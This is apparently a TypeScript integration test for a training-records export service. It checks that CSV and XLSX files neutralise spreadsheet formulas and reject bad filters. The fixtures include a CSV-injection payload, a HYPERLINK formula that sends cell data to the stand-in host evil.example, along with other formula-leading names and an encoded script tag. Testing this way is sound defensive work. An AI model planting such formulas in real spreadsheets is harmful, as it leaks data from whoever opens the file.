// Training-record exports against the real MariaDB and the built server: a fixture process with
// certificates in every state (issued through the real rule evaluation where a basis matters),
// people in training and people only assigned. The CSV (read with the tests' own reader) and the
// XLSX (read back with exceljs) are compared row by row with what the fixtures wrote; every filter,
// the audit event, formula neutralisation and bad filters are checked. The state filter runs in
// SQL while the state column comes from training/status.ts: both are compared at the boundaries.
//
// Formula neutralisation: OWASP "CSV Injection" (cells starting with = + - @ tab or CR get a
// leading apostrophe); RFC 4180 for quoting and CRLF record ends.
import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pool } from '../../src/lib/server/db';
import { evaluateAndIssue } from '../../src/lib/server/certificates/issue';
import {
	listTrainingRecords,
	previewTrainingRecords,
	toTrainingRecord
} from '../../src/lib/server/records';
import { localDate, zonedToUtc } from '../../src/lib/time';
import {
	appDb,
	closeDbHelpers,
	createTestPerson,
	demoPersonId,
	queryRows,
	retireTestPeople,
	type TestPerson
} from '../helpers/db';
import {
	acknowledge,
	completedSignoff,
	insertCertificate,
	makeCheck,
	makeChecklist,
	makeInstructionRows,
	makeProcess,
	makeRule,
	submittedAttempt
} from '../helpers/training-fixtures';
import { parseCsv } from '../helpers/csv-parse';
import { signInAsDemo, type HttpClient } from '../helpers/http-session';

const DAY = 86_400_000;
const HOUR = 3_600_000;
const TZ = 'Asia/Ho_Chi_Minh';
const RUN = Date.now().toString(36).slice(-5).toUpperCase();
const T0 = Date.now();
const at = (days: number, hours = 0) => new Date(T0 + days * DAY + hours * HOUR);

const HEADERS = [
	'person_id',
	'person',
	'employee_no',
	'line',
	'line_name',
	'employment_type',
	'agency',
	'process',
	'process_name',
	'instruction',
	'revision',
	'acknowledged_at_utc',
	'acknowledged_on',
	'check_score_pct',
	'check_attempts',
	'check_at_utc',
	'signoff_on',
	'signoff_at_utc',
	'signoff_signer',
	'signoff_result',
	'certificate_no',
	'issued_at_utc',
	'issued_on',
	'expires_at_utc',
	'expires_on',
	'state',
	'assigned_at_utc',
	'time_zone'
] as const;
type Header = (typeof HEADERS)[number];
type Expected = Record<Header, string>;

// Names that a spreadsheet would run as formulas, and names in Vietnamese and Chinese.
const NAMES = {
	a: `Nguyễn Thị Hồng Nhung ${RUN}`,
	b: `=HYPERLINK("http://evil.example/?x="&A1,"Öffnen ${RUN}")`,
	c: `+1 Lê Văn Tạm ${RUN}`,
	d: `-2 张伟 ${RUN}`,
	e: `@SUM(1+1) ${RUN}`,
	f: `\tTab Phạm ${RUN}`,
	g: `\rReturn 李娜 ${RUN}`,
	trainer: `陈晓燕 Trainer ${RUN}`
};

/** What a cell holds after the export neutralised it. */
const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
const iso = (d: Date | null | undefined) => (d ? d.toISOString() : '');
const day = (d: Date | null | undefined) => (d ? localDate(d, TZ) : '');

let hr: HttpClient;
let quality: TestPerson;
let trainer: TestPerson;
const person: Record<'a' | 'b' | 'c' | 'd' | 'e' | 'f' | 'g', TestPerson> = {} as never;
let proc: { id: number; code: string };
let processName = '';
let lineNames: Record<string, string> = {};
let i1: { id: number; docNumber: string; revisionIds: number[] };
let i2: { id: number; docNumber: string; revisionIds: number[] };
const expected: Expected[] = [];
let tmp = '';

async function certificate(id: number) {
	const [c] = await queryRows<{
		id: number;
		number: string;
		issued_at: Date;
		expires_at: Date;
		state: string;
	}>(appDb(), 'SELECT id, number, issued_at, expires_at, state FROM certificates WHERE id = ?', [
		id
	]);
	return c;
}

function row(p: TestPerson, line: 'L1' | 'L2', values: Partial<Expected>): Expected {
	const base = Object.fromEntries(HEADERS.map((h) => [h, ''])) as Expected;
	return {
		...base,
		person_id: String(p.id),
		person: safe(p.displayName),
		employee_no: p.employeeNo,
		line,
		line_name: lineNames[line],
		employment_type: 'employee',
		process: proc.code,
		process_name: processName,
		check_attempts: '0',
		time_zone: TZ,
		...values
	};
}

const ack = (d: Date) => ({ acknowledged_at_utc: iso(d), acknowledged_on: day(d) });
const check = (score: number, attempts: number, d: Date) => ({
	check_score_pct: String(score),
	check_attempts: String(attempts),
	check_at_utc: iso(d)
});
const signoff = (d: Date, result = 'passed') => ({
	signoff_on: day(d),
	signoff_at_utc: iso(d),
	signoff_signer: NAMES.trainer,
	signoff_result: result
});
const cert = (c: { number: string; issued_at: Date; expires_at: Date }, state: string) => ({
	certificate_no: c.number,
	issued_at_utc: iso(c.issued_at),
	issued_on: day(c.issued_at),
	expires_at_utc: iso(c.expires_at),
	expires_on: day(c.expires_at),
	state
});

beforeAll(async () => {
	tmp = await mkdtemp(path.join(tmpdir(), 'records-'));
	hr = await signInAsDemo('hr');
	quality = await createTestPerson({ roles: ['quality'] });
	trainer = await createTestPerson({ roles: ['trainer'], displayName: NAMES.trainer });
	person.a = await createTestPerson({ roles: ['operator'], displayName: NAMES.a, line: 'L1' });
	person.b = await createTestPerson({ roles: ['operator'], displayName: NAMES.b, line: 'L1' });
	person.c = await createTestPerson({
		roles: ['operator'],
		displayName: NAMES.c,
		line: 'L2',
		employmentType: 'agency'
	});
	person.d = await createTestPerson({ roles: ['operator'], displayName: NAMES.d, line: 'L1' });
	person.e = await createTestPerson({ roles: ['operator'], displayName: NAMES.e, line: 'L1' });
	person.f = await createTestPerson({ roles: ['operator'], displayName: NAMES.f, line: 'L1' });
	person.g = await createTestPerson({ roles: ['operator'], displayName: NAMES.g, line: 'L1' });
	lineNames = Object.fromEntries(
		(
			await queryRows<{ code: string; name: string }>(
				appDb(),
				"SELECT code, name FROM `lines` WHERE code IN ('L1', 'L2')"
			)
		).map((l) => [l.code, l.name])
	);

	proc = await makeProcess();
	processName = `Test process ${proc.code}`;
	i1 = await makeInstructionRows(quality.id, proc.id, [
		{ letter: 'A', effectiveFrom: at(-400), classification: 'acknowledge' },
		{ letter: 'B', effectiveFrom: at(-100), classification: 'retraining' }
	]);
	i2 = await makeInstructionRows(quality.id, proc.id, [
		{ letter: 'A', effectiveFrom: at(-400), classification: 'acknowledge' }
	]);
	const [i1a, i1b] = i1.revisionIds;
	const [i2a] = i2.revisionIds;
	const kc = await makeCheck(proc.id, trainer.id);
	const checklistId = await makeChecklist(proc.id, i1b, trainer.id);
	const ruleId = await makeRule({
		processId: proc.id,
		createdBy: quality.id,
		instructionIds: [i1.id, i2.id],
		checkId: kc.checkId,
		practicalRequired: true,
		checklistId,
		validityMonths: 12,
		reminderDays: [30, 7],
		activeFrom: at(-450)
	});
	const I1 = { instruction: i1.docNumber };
	const I2 = { instruction: i2.docNumber };

	// A: one failed and one passed check, a sign-off, a certificate issued 46 days ago.
	const a = person.a;
	await acknowledge(a.id, i1b, at(-50));
	await acknowledge(a.id, i2a, at(-50, 1));
	await submittedAttempt(a.id, kc, proc.id, false, at(-49));
	await submittedAttempt(a.id, kc, proc.id, true, at(-48));
	await completedSignoff(a.id, trainer.id, checklistId, proc.id, i1b, true, at(-47));
	const ca = await evaluateAndIssue(a.id, proc.id, { now: at(-46) });
	expect(ca.missing).toEqual([]);
	const c1 = await certificate(ca.certificateId!);
	const aBase = { ...check(100, 2, at(-48)), ...signoff(at(-47)), ...cert(c1, 'valid') };
	expected.push(
		row(a, 'L1', { ...I1, revision: 'B', ...ack(at(-50)), ...aBase }),
		row(a, 'L1', { ...I2, revision: 'A', ...ack(at(-50, 1)), ...aBase })
	);

	// B: certified on revision A 302 days ago, renewed on revision B 20 days ago.
	const b = person.b;
	await acknowledge(b.id, i1a, at(-305));
	await acknowledge(b.id, i2a, at(-305, 1));
	await submittedAttempt(b.id, kc, proc.id, true, at(-304));
	await completedSignoff(b.id, trainer.id, checklistId, proc.id, i1a, true, at(-303));
	const old = await evaluateAndIssue(b.id, proc.id, { now: at(-302) });
	expect(old.missing).toEqual([]);
	await acknowledge(b.id, i1b, at(-22));
	await submittedAttempt(b.id, kc, proc.id, true, at(-21));
	await completedSignoff(b.id, trainer.id, checklistId, proc.id, i1b, true, at(-21, 1));
	const renewed = await evaluateAndIssue(b.id, proc.id, { now: at(-20) });
	expect(renewed.missing).toEqual([]);
	const c2a = await certificate(old.certificateId!);
	const c2b = await certificate(renewed.certificateId!);
	expect(c2a.state).toBe('superseded');
	const bOld = { ...check(100, 1, at(-304)), ...signoff(at(-303)), ...cert(c2a, 'superseded') };
	const bNew = { ...check(100, 1, at(-21)), ...signoff(at(-21, 1)), ...cert(c2b, 'valid') };
	expected.push(
		row(b, 'L1', { ...I1, revision: 'A', ...ack(at(-305)), ...bOld }),
		row(b, 'L1', { ...I2, revision: 'A', ...ack(at(-305, 1)), ...bOld }),
		row(b, 'L1', { ...I1, revision: 'B', ...ack(at(-22)), ...bNew }),
		row(b, 'L1', { ...I2, revision: 'A', ...ack(at(-305, 1)), ...bNew })
	);

	// C (agency, line L2): assigned, has read one of the two instructions: in training.
	const assign = (p: TestPerson, when: Date) =>
		appDb().query(
			`INSERT INTO assignments (person_id, process_id, scope, assigned_by, assigned_at)
			 VALUES (?, ?, 'person', ?, ?)`,
			[p.id, proc.id, quality.id, when]
		);
	const c = person.c;
	await assign(c, at(-6));
	await acknowledge(c.id, i2a, at(-5));
	const cBase = {
		employment_type: 'agency',
		agency: 'Test Staffing',
		state: 'in_training',
		assigned_at_utc: iso(at(-6))
	};
	expected.push(
		row(c, 'L2', { ...I1, revision: 'B', ...cBase }),
		row(c, 'L2', { ...I2, revision: 'A', ...ack(at(-5)), ...cBase })
	);

	// D: assigned, nothing done yet.
	await assign(person.d, at(-3));
	const dBase = { state: 'not_started', assigned_at_utc: iso(at(-3)) };
	expected.push(
		row(person.d, 'L1', { ...I1, revision: 'B', ...dBase }),
		row(person.d, 'L1', { ...I2, revision: 'A', ...dBase })
	);

	// E: not assigned, one failed check: in training.
	await submittedAttempt(person.e.id, kc, proc.id, false, at(-2));
	const eBase = { ...check(40, 1, at(-2)), state: 'in_training' };
	expected.push(
		row(person.e, 'L1', { ...I1, revision: 'B', ...eBase }),
		row(person.e, 'L1', { ...I2, revision: 'A', ...eBase })
	);

	// F and G: certificates written directly in the other states (no basis: one row each).
	const direct = async (
		p: TestPerson,
		state: string,
		opts: Parameters<typeof insertCertificate>[3]
	) => {
		const c = await certificate(await insertCertificate(p.id, proc.id, ruleId, opts));
		expected.push(row(p, 'L1', cert(c, state)));
	};
	await direct(person.f, 'expired', { issuedAt: at(-400), expiresAt: at(-35) });
	const g = person.g;
	await direct(g, 'retraining_due', {
		state: 'retraining_due',
		issuedAt: at(-200),
		expiresAt: at(165),
		graceUntil: at(5)
	});
	await direct(g, 'retraining_overdue', {
		state: 'retraining_due',
		issuedAt: at(-199),
		expiresAt: at(166),
		graceUntil: at(-1)
	});
	await direct(g, 'suspended', { state: 'suspended', issuedAt: at(-198), expiresAt: at(167) });
	await direct(g, 'withdrawn', { state: 'withdrawn', issuedAt: at(-197), expiresAt: at(168) });
	await direct(g, 'expiring', { issuedAt: at(-355), expiresAt: at(10) });
}, 120_000);

afterAll(async () => {
	await retireTestPeople();
	await closeDbHelpers();
	await pool.end();
	if (tmp) await rm(tmp, { recursive: true, force: true });
});

/** The export's order: people by name as the database collates them, then issue, then instruction. */
async function inExportOrder(rows: Expected[]): Promise<Expected[]> {
	const ids = [...new Set(rows.map((r) => Number(r.person_id)))];
	const order = (
		await queryRows<{ id: number }>(
			appDb(),
			'SELECT id FROM people WHERE id IN (?) ORDER BY display_name, id',
			[ids]
		)
	).map((p) => String(p.id));
	const key = (r: Expected) => [
		order.indexOf(r.person_id),
		r.issued_at_utc,
		r.certificate_no,
		r.instruction,
		r.revision
	];
	return [...rows].sort((x, y) => {
		const a = key(x);
		const b = key(y);
		for (let i = 0; i < a.length; i++) {
			if (a[i] < b[i]) return -1;
			if (a[i] > b[i]) return 1;
		}
		return 0;
	});
}

/** The bytes as text, keeping a BOM. */
const utf8 = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

async function getCsv(query: string) {
	const res = await hr.get(`/records/export.csv?${query}`);
	expect(res.status, await res.clone().text()).toBe(200);
	const bytes = new Uint8Array(await res.arrayBuffer());
	return { res, bytes, table: parseCsv(utf8(bytes).replace(/^\uFEFF/, '')) };
}

async function csvRecords(query: string): Promise<Expected[]> {
	const { table } = await getCsv(query);
	const [header, ...body] = table;
	expect(header).toEqual([...HEADERS]);
	return body.map((cells) => Object.fromEntries(HEADERS.map((h, i) => [h, cells[i]])) as Expected);
}

/** The documented period rule, applied to the expected rows. */
function inPeriod(r: Expected, from: Date | null, before: Date | null): boolean {
	const inside = (s: string) =>
		s !== '' && (!from || new Date(s) >= from) && (!before || new Date(s) < before);
	if ([r.acknowledged_at_utc, r.check_at_utc, r.signoff_at_utc, r.assigned_at_utc].some(inside))
		return true;
	if (!r.certificate_no) return false;
	return (
		(!before || new Date(r.issued_at_utc) < before) && (!from || new Date(r.expires_at_utc) > from)
	);
}

const nextDay = (d: string) =>
	new Date(Date.parse(`${d}T00:00:00Z`) + DAY).toISOString().slice(0, 10);

describe('CSV export', () => {
	it('holds exactly the fixture rows, in order, with a BOM and formula-safe cells', async () => {
		const { res, bytes, table } = await getCsv(`process=${proc.code}`);
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toBe(
			`attachment; filename="training-records-${localDate(new Date(), TZ)}.csv"`
		);
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(utf8(bytes).endsWith('\r\n')).toBe(true);
		const got = await csvRecords(`process=${proc.code}`);
		expect(got).toEqual(await inExportOrder(expected));
		expect(got).toHaveLength(18);
		// Every state appears, so each has been compared above.
		expect(new Set(got.map((r) => r.state)).size).toBe(10);
		// No cell of the file starts a formula.
		for (const cells of table) for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
		const text = utf8(bytes);
		// Names survive in UTF-8; the formula name keeps its apostrophe inside RFC 4180 quotes.
		expect(text).toContain(NAMES.a);
		expect(text).toContain('张伟');
		expect(text).toContain(NAMES.trainer);
		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Öffnen ${RUN}"")"`);
		expect(text).toContain(`'+1 Lê Văn Tạm ${RUN}`);
		expect(text).toContain(`"'\rReturn 李娜 ${RUN}"`);
		expect(text).toContain(`'\tTab Phạm ${RUN}`);
	});

	it('filters by line, person (employee number or id) and state', async () => {
		const byLine = await csvRecords(`process=${proc.code}&line=L2`);
		expect(byLine).toEqual(await inExportOrder(expected.filter((r) => r.line === 'L2')));
		expect(byLine).toHaveLength(2);

		const byNumber = await csvRecords(`person=${person.b.employeeNo}`);
		expect(byNumber).toEqual(
			await inExportOrder(expected.filter((r) => r.person_id === String(person.b.id)))
		);
		const byId = await csvRecords(`person=${person.a.id}&process=${proc.code}`);
		expect(byId).toEqual(
			await inExportOrder(expected.filter((r) => r.person_id === String(person.a.id)))
		);
		expect(byId).toHaveLength(2);

		let total = 0;
		for (const state of new Set(expected.map((r) => r.state))) {
			const got = await csvRecords(`process=${proc.code}&state=${state}`);
			expect(got, state).toEqual(await inExportOrder(expected.filter((r) => r.state === state)));
			total += got.length;
		}
		expect(total).toBe(expected.length);
	});

	it('filters by period: any dated event in it, or a certificate valid during it', async () => {
		const cases: [string, string][] = [
			[day(at(-49)), day(at(-47))],
			[day(at(-4)), ''],
			['', day(at(-300))],
			[day(at(-400)), day(at(400))]
		];
		for (const [from, to] of cases) {
			const q = `process=${proc.code}${from ? `&from=${from}` : ''}${to ? `&to=${to}` : ''}`;
			const f = from ? zonedToUtc(from, '00:00', TZ) : null;
			const before = to ? zonedToUtc(nextDay(to), '00:00', TZ) : null;
			const got = await csvRecords(q);
			expect(got, q).toEqual(await inExportOrder(expected.filter((r) => inPeriod(r, f, before))));
		}
		// The first period, spelt out: A's check and sign-off fall in it; B's first certificate, F's
		// and G's are valid during it; B's renewal, C, D and E have nothing in it.
		const first = await csvRecords(`process=${proc.code}&from=${day(at(-49))}&to=${day(at(-47))}`);
		const who = first.map((r) => `${r.person_id}:${r.certificate_no}`);
		expect(first).toHaveLength(2 + 2 + 1 + 5);
		expect(who.filter((w) => w.startsWith(`${person.b.id}:`))).toHaveLength(2);
		expect(first.some((r) => r.state === 'valid' && r.person_id === String(person.b.id))).toBe(
			false
		);
		for (const p of [person.c, person.d, person.e])
			expect(first.some((r) => r.person_id === String(p.id))).toBe(false);
	});

	it('writes the export to the audit trail with its filter and the exact row count', async () => {
		const hrId = await demoPersonId('hr@kbo2.example');
		const res = await hr.get(`/records/export.csv?process=${proc.code}&state=not_started`);
		expect(res.status).toBe(200);
		expect(res.headers.get('x-record-count')).toBe('2');
		await res.arrayBuffer();
		const [ev] = await queryRows<{ new_values: unknown; entity_type: string }>(
			appDb(),
			"SELECT new_values, entity_type FROM audit_events WHERE action = 'records.export' AND actor_id = ? ORDER BY seq DESC LIMIT 1",
			[hrId]
		);
		const values = typeof ev.new_values === 'string' ? JSON.parse(ev.new_values) : ev.new_values;
		expect(ev.entity_type).toBe('training_records');
		expect(values).toMatchObject({
			format: 'csv',
			filter: { process: proc.code, state: 'not_started' },
			rows: 2
		});
	});

	it('answers a bad filter with 400 and the fields, on both URLs', async () => {
		const bad: [string, string][] = [
			['from=2026-02-30', 'from'],
			['from=2026-05-02&to=2026-05-01', 'to'],
			['state=shiny', 'state'],
			['line=ZZ9', 'line'],
			['process=NO-SUCH-PROCESS', 'process'],
			['person=nobody-here', 'person'],
			['line=%3Cscript%3E', 'line']
		];
		for (const ext of ['csv', 'xlsx']) {
			for (const [q, field] of bad) {
				const res = await hr.get(`/records/export.${ext}?${q}`, {
					headers: { accept: 'application/json' }
				});
				expect(res.status, `${ext} ${q}`).toBe(400);
				const body = await res.json();
				expect(typeof body.error, q).toBe('string');
				expect(Object.keys(body.fields), q).toContain(field);
			}
		}
	});

	it('refuses roles outside hr and quality on both URLs', async () => {
		for (const role of ['operator', 'trainer', 'lead', 'admin'] as const) {
			const client = await signInAsDemo(role);
			for (const ext of ['csv', 'xlsx']) {
				const res = await client.get(`/records/export.${ext}?process=${proc.code}`);
				expect(res.status, `${role} ${ext}`).toBe(403);
				expect(await res.text()).not.toContain(proc.code + ',');
			}
		}
		const quality = await signInAsDemo('quality');
		const ok = await quality.get(`/records/export.csv?process=${proc.code}`);
		expect(ok.status).toBe(200);
		await ok.arrayBuffer();
	});
});

describe('XLSX export', () => {
	it('reads back with exceljs as the same rows, typed, with a frozen header and autofilter', async () => {
		const res = await hr.get(`/records/export.xlsx?process=${proc.code}`);
		expect(res.status).toBe(200);
		expect(res.headers.get('content-type')).toBe(
			'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
		);
		expect(res.headers.get('content-disposition')).toMatch(
			/^attachment; filename="training-records-\d{4}-\d{2}-\d{2}\.xlsx"$/
		);
		const bytes = Buffer.from(await res.arrayBuffer());
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(bytes as unknown as ArrayBuffer);
		const sheet = wb.worksheets[0];
		expect(sheet.name).toBe('Training records');
		expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
		expect(sheet.autoFilter).toBe(`A1:AB${expected.length + 1}`);
		expect(sheet.getColumn(2).width).toBe(28);
		expect(sheet.getRow(1).font?.bold).toBe(true);

		const kinds: Record<string, 'number' | 'date' | 'text'> = {};
		for (const h of HEADERS) kinds[h] = 'text';
		for (const h of ['person_id', 'check_score_pct', 'check_attempts'] as const)
			kinds[h] = 'number';
		for (const h of HEADERS) if (/_utc$|_on$/.test(h)) kinds[h] = 'date';

		const header = (sheet.getRow(1).values as unknown[]).slice(1);
		expect(header).toEqual([...HEADERS]);
		const got: Expected[] = [];
		for (let r = 2; r <= sheet.rowCount; r++) {
			const cells = HEADERS.map((h, i) => {
				const cell = sheet.getRow(r).getCell(i + 1);
				// Nothing is a formula: exceljs reads every text cell back as a plain string.
				expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
				expect(cell.formula).toBeUndefined();
				const v = cell.value;
				if (v === null || v === undefined) return '';
				if (kinds[h] === 'number') {
					expect(typeof v, h).toBe('number');
					return String(v);
				}
				if (kinds[h] === 'date') {
					expect(v, h).toBeInstanceOf(Date);
					const d = v as Date;
					return h.endsWith('_on') ? d.toISOString().slice(0, 10) : d.toISOString();
				}
				expect(typeof v, h).toBe('string');
				return v as string;
			});
			got.push(Object.fromEntries(HEADERS.map((h, i) => [h, cells[i]])) as Expected);
		}
		// XML turns a lone CR into LF when it is read (XML 1.0 §2.11); the apostrophe is still first.
		const want = (await inExportOrder(expected)).map((r) => ({
			...r,
			person: r.person.replace(/\r/g, '\n')
		}));
		expect(got).toEqual(want);
		expect(got.find((r) => r.person_id === String(person.b.id))?.person).toBe(safe(NAMES.b));

		// The sheet's own XML: strings only, not one formula element.
		const file = path.join(tmp, 'records.xlsx');
		await writeFile(file, bytes);
		const xml = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], {
			encoding: 'utf8',
			maxBuffer: 64 * 1024 * 1024
		});
		expect(xml).not.toMatch(/<f[ >]/);
		expect(xml).toContain('<pane ');
		expect(xml).toContain(`<autoFilter ref="A1:AB${expected.length + 1}"`);
		// The neutralised text, XML-escaped, in a plain value element.
		expect(xml).toContain('<v>&apos;=HYPERLINK(&quot;http://evil.example/');
	});
});

describe('the state filter in SQL agrees with training/status.ts', () => {
	it('row by row, at the instants where statuses change', async () => {
		const certs = await queryRows<{
			expires_at: Date;
			grace_until: Date | null;
		}>(appDb(), 'SELECT expires_at, grace_until FROM certificates WHERE process_id = ?', [proc.id]);
		const instants = new Set<number>([Date.now()]);
		for (const c of certs) {
			for (const edge of [
				c.expires_at.getTime(),
				c.expires_at.getTime() - 30 * DAY,
				c.grace_until?.getTime()
			]) {
				if (edge == null) continue;
				for (const d of [-1, 0, 1]) instants.add(edge + d);
			}
		}
		let compared = 0;
		for (const t of instants) {
			const now = new Date(t);
			for (const r of await listTrainingRecords({ processId: proc.id }, now)) {
				expect(r.record_state, `${r.certificate_number} at ${now.toISOString()}`).toBe(
					toTrainingRecord(r, now).state
				);
				compared++;
			}
		}
		expect(compared).toBeGreaterThan(instants.size * 10);
		// The demo plant's certificates too, now.
		const now = new Date();
		const all = await listTrainingRecords({}, now);
		expect(all.filter((r) => r.certificate_id != null).length).toBeGreaterThan(20);
		for (const r of all) expect(r.record_state).toBe(toTrainingRecord(r, now).state);
	});
});

describe('the Records page preview', () => {
	it('is the first rows of the full result, in export order, with its count', async () => {
		// The preview looks for its rows among the first people only; it must still be exactly
		// the head of the full result, including where one person's rows cross the limit.
		const now = new Date();
		const filters = [{}, { processId: proc.id }, { processId: proc.id, state: 'valid' as const }];
		let compared = 0;
		for (const f of filters) {
			const all = (await listTrainingRecords(f, now)).map((r) => toTrainingRecord(r, now));
			expect(all.length, JSON.stringify(f)).toBeGreaterThan(0);
			for (const limit of [1, 2, 3, 5, 8, 50, all.length + 5]) {
				const preview = await previewTrainingRecords(f, limit, now);
				expect(preview.total).toBe(all.length);
				expect(preview.rows, `${JSON.stringify(f)} limit ${limit}`).toEqual(all.slice(0, limit));
				compared += preview.rows.length;
			}
		}
		expect(compared).toBeGreaterThan(100);
		const none = await previewTrainingRecords({ personId: 2 ** 31 - 1 }, 50, now);
		expect(none).toEqual({ total: 0, rows: [] });
	});
});
